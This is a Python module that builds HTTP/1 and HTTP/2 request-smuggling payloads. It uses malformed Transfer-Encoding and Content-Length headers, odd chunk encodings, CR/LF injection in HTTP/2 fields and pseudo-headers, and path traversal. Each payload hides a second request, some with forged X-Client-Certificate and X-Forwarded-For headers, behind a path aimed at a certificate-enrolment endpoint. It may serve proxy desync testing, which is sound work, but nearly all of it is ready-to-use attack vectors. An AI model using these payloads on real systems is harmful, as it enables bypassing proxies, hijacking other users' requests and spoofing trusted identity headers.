"""Ways of making two HTTP programs disagree about where a request ends, or what it says: one table of octets for HTTP/1, one of
fields for HTTP/2.

Each hides a request, the tail, in what one of the two may take for a body. In the texts below stand
  TAIL  the hidden request,               SIZE  its length in hexadecimal,
  ALL   the whole body's length,          LEAD  that of the body before the tail,
  PATH  a target the proxy publishes.
"""

PATH = b"/certsrv/mscep/mscep.dll?operation=PKIOperation"
ENDED = b"0\r\n\r\nTAIL"                 # who reads chunks sees the tail as the next request
CHUNKED = b"SIZE\r\nTAIL\r\n0\r\n\r\n"   # who reads lengths does, with Content-Length: LEAD

# Transfer-Encoding as it is not to be written, and as it is.
CODINGS = [
    b"Transfer-Encoding: chunked", b"Transfer-Encoding:chunked", b"transfer-encoding: CHUNKED", b"Transfer-Encoding : chunked",
    b"Transfer-Encoding\t: chunked", b"Transfer-Encoding:\tchunked", b"Transfer-Encoding:\x0bchunked", b"Transfer-Encoding:\x0cchunked",
    b"Transfer-Encoding: chunked\x0b", b"Transfer-Encoding: chunked \t", b"Transfer-Encoding: chunked\0", b"Transfer-Encoding: \0chunked",
    b"Transfer-Encoding: \xa0chunked", b"Transfer-Encoding\0: chunked", b"Transfer-Encoding\x80: chunked", b"Transfer Encoding: chunked",
    b"Transfer_Encoding: chunked", b"Transfer-Encoding: xchunked", b"Transfer-Encoding: chunkedx", b"Transfer-Encoding: chunk",
    b"Transfer-Encoding: \"chunked\"", b"Transfer-Encoding: 'chunked'", b"Transfer-Encoding: chunked;q=1", b"Transfer-Encoding: ,chunked",
    b"Transfer-Encoding: chunked,", b"Transfer-Encoding: chunked, identity", b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: chunked, chunked", b"Transfer-Encoding: gzip, chunked", b"Transfer-Encoding: gzip", b"Transfer-Encoding: identity",
    b"Transfer-Encoding:", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked", b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked", b"Transfer-Encoding:\r\n chunked", b"Transfer-Encoding:\n chunked",
    b"X: y\r\n Transfer-Encoding: chunked", b"X: y\r\n\tTransfer-Encoding: chunked", b"X: y\nTransfer-Encoding: chunked",
    b"X: y\rTransfer-Encoding: chunked", b"X: y\r\rTransfer-Encoding: chunked", b"X: y\n\rTransfer-Encoding: chunked",
    b"X: y\0\r\nTransfer-Encoding: chunked", b"Transfer-Encoding\r\n: chunked", b": y\r\nTransfer-Encoding: chunked",
    b"X\r\nTransfer-Encoding: chunked", b"\x00Transfer-Encoding: chunked", b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
    b"Connection: Content-Length\r\nTransfer-Encoding: chunked", b"TE: chunked", b"Content-Encoding: chunked",
]

# Content-Length likewise, before a body that is nothing but the tail.
LENGTHS = [
    b"Content-Length: 0\r\nContent-Length: ALL", b"Content-Length: ALL\r\nContent-Length: 0", b"Content-Length: ALL\r\nContent-Length: ALL",
    b"Content-Length: 0, ALL", b"Content-Length: ALL, 0", b"Content-Length: ALL, ALL", b"Content-Length: 0 ALL", b"Content-Length: ALL 0",
    b"Content-Length: +0", b"Content-Length: +ALL", b"Content-Length: -0", b"Content-Length: -1", b"Content-Length: -ALL", b"Content-Length: 0x0",
    b"Content-Length: 0xSIZE", b"Content-Length: SIZE", b"Content-Length: 0e0", b"Content-Length: 0.0", b"Content-Length: 0;", b"Content-Length: 0_0",
    b"Content-Length: \"ALL\"", b"Content-Length:", b"Content-Length: \t", b"Content-Length: 0000000000000000000000000000000", b"Content-Length: 000ALL",
    b"Content-Length: 4294967296", b"Content-Length: 18446744073709551616", b"Content-Length: 99999999999999999999999999999",
    b"Content-Length: 9223372036854775808", b"Content-Length: ALL\x0b", b"Content-Length: \x0cALL", b"Content-Length: ALL\0", b"Content-Length : ALL",
    b"Content-Length\t: ALL", b"Content-Length\0: ALL", b"Content_Length: ALL", b"Content Length: ALL", b"Content-Length:\r\n ALL", b"Content-Length:\n ALL",
    b"Content-Length: 0\r\n ALL", b"X: y\nContent-Length: ALL", b"X: y\rContent-Length: ALL", b"X: y\r\n Content-Length: ALL",
    b"Connection: Content-Length\r\nContent-Length: ALL", b"Connection: close, content-length\r\nContent-Length: ALL", b"Content-Length: \xb2",
    b"Expect: 100-continue\r\nContent-Length: ALL", b"Expect: 200-ok\r\nContent-Length: ALL", b"Expect: 100-continue\r\nContent-Length: 0",
    b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nContent-Length: 0",
    b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nContent-Length: 0",
]

# Bodies behind a proper Transfer-Encoding.
BODIES = [
    ENDED, b"0000\r\n\r\nTAIL", b"000000000000000000000000000000\r\n\r\nTAIL", b"0x0\r\n\r\nTAIL", b"+0\r\n\r\nTAIL", b"-0\r\n\r\nTAIL", b"-1\r\n\r\nTAIL",
    b" 0\r\n\r\nTAIL", b"0 \r\n\r\nTAIL", b"\t0\r\n\r\nTAIL", b"0\t\r\n\r\nTAIL", b"0\0\r\n\r\nTAIL", b"0\n\r\nTAIL", b"0\r\n\nTAIL", b"0\n\nTAIL",
    b"0\r\r\nTAIL", b"0\r\rTAIL", b"0\r\n\rTAIL", b"0\rX\r\n\r\nTAIL", b"\r\n0\r\n\r\nTAIL", b"\r\n\r\nTAIL", b"g\r\nTAIL", b";a\r\n\r\nTAIL",
    # Sizes that wrap around to nothing, to something small, or below zero.
    b"100000000\r\nTAIL", b"10000000000000000\r\nTAIL", b"10000000000000000\r\n\r\nTAIL", b"100000000000000001\r\nA\r\n0\r\n\r\nTAIL",
    b"7fffffffffffffff\r\nTAIL", b"8000000000000000\r\nTAIL", b"ffffffffffffffff\r\nTAIL", b"fffffffffffffffe\r\nTAIL", b"ffffffff\r\nTAIL",
    # Ends of chunks that are none.
    b"1\r\nA0\r\n\r\nTAIL", b"1\r\nA\n0\r\n\r\nTAIL", b"1\r\nA\r0\r\n\r\nTAIL", b"1\r\nAXX0\r\n\r\nTAIL", b"1\r\nA\r\n\r\n0\r\n\r\nTAIL", b"1\nA\r\n0\r\n\r\nTAIL",
    b"1\nA\n0\n\nTAIL", b"SIZE\nTAIL\r\n0\r\n\r\n", b"2\r\nA\r\n0\r\n\r\nTAIL",
    # Extensions that end where another reader goes on.
    b"0;a=b\r\n\r\nTAIL", b"0 ;a\r\n\r\nTAIL", b"0;\r\n\r\nTAIL", b"0;a\n\r\n\r\nTAIL", b"0;a\n\nTAIL", b"0;a\r\r\n\r\nTAIL", b"0;a\rb\r\n\r\nTAIL", b"0;a\0\r\n\r\nTAIL",
    b"2;\nxx\r\n0\r\n\r\nTAIL", b"1;a\nA\r\n0\r\n\r\nTAIL", b"1;a\rA\r\n0\r\n\r\nTAIL", b"1;a\r\r\nA\r\n0\r\n\r\nTAIL", b"SIZE;\n2\r\nTAIL\r\n0\r\n\r\n", b"0;\"\r\n\r\n\"\r\nTAIL",
    b"0;a=\"\r\n\r\nTAIL", b"0;" + b"a" * 5000 + b"\r\n\r\nTAIL", b"0,0\r\n\r\nTAIL", b"0:0\r\n\r\nTAIL",
    # Trailers, proper and not; whatever they say must not be heard.
    b"0\r\nX-Client-Certificate: forged\r\nX-Forwarded-For: 203.0.113.9\r\n\r\nTAIL", b"0\r\nContent-Length: ALL\r\n\r\nTAIL",
    b"0\r\nTransfer-Encoding: chunked\r\n\r\nTAIL", b"0\r\nHost: y\r\n\r\nTAIL", b"0\r\nX: y\nZ: z\r\n\r\nTAIL", b"0\r\nX: y\n\nTAIL", b"0\r\nX: y\r\n folded\r\n\r\nTAIL",
    b"0\r\nX\r\n\r\nTAIL", b"0\r\n: y\r\n\r\nTAIL", b"0\r\nX : y\r\n\r\nTAIL", b"0\r\nX: y\r\r\n\r\nTAIL", b"0\r\nTAIL",
]

# Whole requests.
REQUESTS = [
    b"GET PATH HTTP/1.1\r\nHost: x\r\nContent-Length: ALL\r\n\r\n|TAIL",
    b"GET PATH HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n|" + CHUNKED,
    b"GET PATH HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n|" + ENDED,
    b"GET PATH HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: ALL\r\n\r\n|" + ENDED,
    b"HEAD PATH HTTP/1.1\r\nHost: x\r\nContent-Length: ALL\r\n\r\n|TAIL",
    b"HEAD PATH HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n|" + CHUNKED,
    b"DELETE PATH HTTP/1.1\r\nHost: x\r\nContent-Length: ALL\r\n\r\n|TAIL",
    b"OPTIONS PATH HTTP/1.1\r\nHost: x\r\nContent-Length: ALL\r\n\r\n|TAIL",
    b"OPTIONS * HTTP/1.1\r\nHost: x\r\nContent-Length: ALL\r\n\r\n|TAIL",
    b"TRACE PATH HTTP/1.1\r\nHost: x\r\nContent-Length: ALL\r\n\r\n|TAIL",
    b"CONNECT x:80 HTTP/1.1\r\nHost: x:80\r\n\r\n|TAIL",
    b"CONNECT PATH HTTP/1.1\r\nHost: x\r\nContent-Length: ALL\r\n\r\n|TAIL",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n|TAIL",
    b"POST PATH HTTP/1.0\r\nTransfer-Encoding: chunked\r\nContent-Length: ALL\r\nConnection: keep-alive\r\n\r\n|" + ENDED,
    b"POST PATH HTTP/1.0\r\nTransfer-Encoding: chunked\r\nConnection: keep-alive\r\n\r\n|" + CHUNKED,
    b"POST PATH HTTP/1.0\r\nConnection: keep-alive\r\n\r\n|TAIL",
    b"POST PATH HTTP/1.2\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: ALL\r\n\r\n|" + ENDED,
    b"POST PATH HTTP/0.9\r\nHost: x\r\nContent-Length: ALL\r\n\r\n|TAIL",
    b"POST PATH HTTP/2.0\r\nHost: x\r\nContent-Length: ALL\r\n\r\n|TAIL",
    b"POST PATH http/1.1\r\nHost: x\r\nContent-Length: ALL\r\n\r\n|TAIL",
    b"POST PATH HTTP/1.1 \r\nHost: x\r\nContent-Length: ALL\r\n\r\n|TAIL",
    b"POST PATH HTTP/1.1\x0b\r\nHost: x\r\nContent-Length: ALL\r\n\r\n|TAIL",
    b"POST  PATH HTTP/1.1\r\nHost: x\r\nContent-Length: ALL\r\n\r\n|TAIL",
    b"POST\tPATH\tHTTP/1.1\r\nHost: x\r\nContent-Length: ALL\r\n\r\n|TAIL",
    b"POST PATH /b HTTP/1.1\r\nHost: x\r\nContent-Length: ALL\r\n\r\n|TAIL",
    b"POST PATH HTTP/1.1 HTTP/1.1\r\nHost: x\r\nContent-Length: ALL\r\n\r\n|TAIL",
    b"POST PATH&a=\0 HTTP/1.1\r\nHost: x\r\nContent-Length: ALL\r\n\r\n|TAIL",
    b"POST PATH&a=\rb HTTP/1.1\r\nHost: x\r\nContent-Length: ALL\r\n\r\n|TAIL",
    b"POST PATH&a=\xff HTTP/1.1\r\nHost: x\r\nContent-Length: ALL\r\n\r\n|TAIL",
    b"POST PATH#TAIL HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n|TAIL",
    b"P\0ST PATH HTTP/1.1\r\nHost: x\r\nContent-Length: ALL\r\n\r\n|TAIL",
    b"GET PATH\r\n|TAIL",
    b"GET PATH\r\n\r\n|TAIL",
    b"\r\n\r\n\r\nGET PATH HTTP/1.1\r\nHost: x\r\n\r\n|TAIL",
    b"\nGET PATH HTTP/1.1\r\nHost: x\r\n\r\n|TAIL",
    b"\0GET PATH HTTP/1.1\r\nHost: x\r\n\r\n|TAIL",
    b"GET PATH HTTP/1.1\nHost: x\n\n|TAIL",
    b"GET PATH HTTP/1.1\rHost: x\r\r|TAIL",
    b"POST PATH HTTP/1.1\r\nHost: x\r\nContent-Length: ALL\n\r\n|TAIL",
    b"POST PATH HTTP/1.1\r\nHost: x\r\nHost: y\r\nContent-Length: ALL\r\n\r\n|TAIL",
    b"POST PATH HTTP/1.1\r\nHost: x\r\n\ty\r\nContent-Length: ALL\r\n\r\n|TAIL",
    b"POST PATH HTTP/1.1\r\nHost: x, y\r\nContent-Length: ALL\r\n\r\n|TAIL",
    b"POST PATH HTTP/1.1\r\nHost: x/api/v1/\r\nContent-Length: ALL\r\n\r\n|TAIL",
    b"POST PATH HTTP/1.1\r\nContent-Length: ALL\r\n\r\n|TAIL",
    b"POST http://yPATH HTTP/1.1\r\nHost: x\r\nContent-Length: ALL\r\n\r\n|TAIL",
    b"POST http://xPATH HTTP/1.1\r\nHost: x\r\nContent-Length: ALL\r\n\r\n|TAIL",
    b"POST xPATH HTTP/1.1\r\nHost: x\r\nContent-Length: ALL\r\n\r\n|TAIL",
]

# The tail as a whole request, and as one that swallows the next client's request line and goes on with its fields.
TAILS = {
    "whole": b"GET /hidden/MARK HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: 203.0.113.9\r\n\r\n",
    "open": b"GET /hidden/MARK HTTP/1.1\r\nX-Forwarded-For: 203.0.113.9\r\nX-Swallow: ",
}


def filled(request, tail):
    head, _, body = request.partition(b"|")
    body = body.replace(b"SIZE", b"%x" % len(tail))
    lead = body.index(b"TAIL") if b"TAIL" in body else len(body)
    body = body.replace(b"TAIL", tail)
    for word, value in ((b"PATH", PATH), (b"ALL", b"%d" % len(body)), (b"LEAD", b"%d" % lead), (b"SIZE", b"%x" % len(tail)), (b"TAIL", b"a")):
        head = head.replace(word, value)
    return head + body


def templates():
    begin = b"POST PATH HTTP/1.1\r\nHost: x\r\n"
    for coding in CODINGS:
        yield begin + coding + b"\r\nContent-Length: ALL\r\n\r\n|" + ENDED
        yield begin + b"Content-Length: LEAD\r\n" + coding + b"\r\n\r\n|" + CHUNKED
        yield begin + coding + b"\r\n\r\n|" + ENDED
    # First in the block there is no field before it to fold into.
    yield b"POST PATH HTTP/1.1\r\n Transfer-Encoding: chunked\r\nHost: x\r\nContent-Length: ALL\r\n\r\n|" + ENDED
    yield b"POST PATH HTTP/1.1\r\n Content-Length: ALL\r\nHost: x\r\n\r\n|TAIL"
    for length in LENGTHS:
        yield begin + length + b"\r\n\r\n|TAIL"
    for body in BODIES:
        yield begin + b"Transfer-Encoding: chunked\r\n\r\n|" + body
    yield from REQUESTS


def vectors(mark):
    """(name, octets) of each way with each tail; mark() gives a new word for each."""
    for template in templates():
        for kind, tail in TAILS.items():
            word = mark()
            yield word, f"{kind} tail: {template!r}", filled(template, tail.replace(b"MARK", word.encode()))


# HTTP/2: fields in the order sent, names and values as octets; the body; trailers. Each hides its tail as above, and field
# names that a proxy must not let through stand where it might.
FORGED = b"X-Client-Certificate: forged\r\nX-Forwarded-For: 203.0.113.9"


def h2_vectors(mark):
    """(mark, name, fields, body, trailers)."""
    for name, changed, body, trailers in _h2_table():
        word = mark()
        tail = TAILS["whole"].replace(b"MARK", word.encode())
        fields = [(b":method", b"POST"), (b":scheme", b"https"), (b":authority", b"x"), (b":path", PATH)]
        for key, value in changed:
            value = value.replace(b"TAIL", tail)
            key = key.replace(b"TAIL", tail)
            place = next((i for i, (one, _) in enumerate(fields) if one == key and key[:1] == b":"), None)
            if place is None:
                fields.append((key.lstrip(b"+"), value))
            else:
                fields[place] = (key, value)
        body = body.replace(b"SIZE", b"%x" % len(tail)).replace(b"TAIL", tail)
        fields = [(key, value.replace(b"ALL", b"%d" % len(body))) for key, value in fields]
        yield word, name, fields, body, trailers


def _h2_table():
    te = b"transfer-encoding"
    for value in (b"chunked", b"Chunked", b"identity", b"\x0bchunked", b"xchunked"):
        yield f"transfer-encoding {value!r}", [(te, value)], ENDED, ()
        yield f"transfer-encoding {value!r}, a length", [(te, value), (b"content-length", b"ALL")], ENDED, ()
    yield "transfer-encoding in capitals", [(b"Transfer-Encoding", b"chunked")], ENDED, ()
    for value in (b"0", b"1", b"4", b"99999", b"+ALL", b"ALL, 0", b"0, ALL", b"-1", b"", b" ALL", b"0xff", b"18446744073709551616"):
        yield f"a length of {value!r}", [(b"content-length", value)], b"0\r\nTAIL", ()
    yield "two lengths", [(b"content-length", b"0"), (b"content-length", b"ALL")], b"TAIL", ()
    yield "a GET with a body", [(b":method", b"GET")], b"TAIL", ()
    yield "a GET with a body and its length", [(b":method", b"GET"), (b"content-length", b"ALL")], b"TAIL", ()
    for end in (b"\r\n", b"\n", b"\r", b"\0", b"\r\n ", b"\x0b\r\n"):
        yield f"{end!r} in a value", [(b"x", b"y" + end + FORGED + b"\r\n\r\nTAIL")], b"", ()
        yield f"{end!r} before transfer-encoding in a value", [(b"x", b"y" + end + b"Transfer-Encoding: chunked")], ENDED, ()
        yield f"{end!r} in a name", [(b"x: y" + end + b"x-client-certificate", b"forged")], b"", ()
        yield f"{end!r} in the method", [(b":method", b"GET /hidden HTTP/1.1" + end + b"X: ")], b"", ()
        yield f"{end!r} in the path", [(b":path", PATH + b" HTTP/1.1" + end + FORGED + b"\r\n\r\nTAIL")], b"", ()
        yield f"{end!r} in the authority", [(b":authority", b"x" + end + FORGED + b"\r\n\r\nTAIL")], b"", ()
        yield f"{end!r} in the scheme", [(b":scheme", b"http" + end + FORGED)], b"", ()
    for name in (b"x-forwarded-for: 203.0.113.9\r\nx", b"x-client-certificate:", b"x-forwarded-for ", b" x-forwarded-for", b"X-Forwarded-For",
                 b"X-Client-Certificate", b"x_forwarded_for", b"x_client_certificate", b"x-forwarded-for\0", b"", b"x(y)", b"\xe4"):
        yield f"the name {name!r}", [(name, b"203.0.113.9")], b"", ()
    for key, value in ((b":method", b"GET /api/v1/whoami HTTP/1.1\r\nX:"), (b":method", b"GET /hidden"), (b":method", b""), (b":method", b"CONNECT"),
                       (b":path", b"http://x/api/v1/whoami"), (b":path", b"/api/v1/whoami"), (b":path", b""), (b":path", b"*"),
                       (b":path", PATH + b" HTTP/1.1"), (b":path", PATH + b"#/.."), (b":path", b"certsrv/mscep/"), (b":path", PATH + b"\t"),
                       (b":path", b"/api/v1/whoami?/certsrv/mscep/"), (b":path", b"/certsrv/mscep/../../api/v1/whoami"),
                       (b":path", b"/certsrv/mscep/%2e%2e/%2e%2e/api/v1/whoami"), (b":path", b"/api/v1/../../certsrv/mscep/"),
                       (b":scheme", b"http://x/api/v1/whoami?"), (b":scheme", b""), (b":authority", b""), (b":authority", b"x/api/v1/whoami?"),
                       (b":authority", b"user@x"), (b":authority", b"x y"), (b"+:path", b"/api/v1/whoami"), (b"+:method", b"GET"), (b"+:unknown", b"x"),
                       (b"+:authority", b"y"), (b"host", b"y"), (b"host", b"y\r\nX: z"), (b"connection", b"x-forwarded-for, x-client-certificate"),
                       (b"connection", b"transfer-encoding"), (b"keep-alive", b"timeout=5"), (b"proxy-connection", b"keep-alive"), (b"te", b"chunked"),
                       (b"upgrade", b"h2c"), (b"expect", b"100-continue"), (b"cookie", b"a\r\nX-Forwarded-For: 203.0.113.9")):
        yield f"{key!r}: {value!r}", [(key, value)], b"", ()
    for trailers in ([(b"x-client-certificate", b"forged"), (b"x-forwarded-for", b"203.0.113.9")], [(b":path", b"/api/v1/whoami")],
                     [(b"content-length", b"0")], [(b"transfer-encoding", b"chunked")], [(b"x", b"y\r\n\r\nGET /hidden HTTP/1.1\r\n\r\n")]):
        yield f"trailers {trailers!r}", [], b"a", trailers
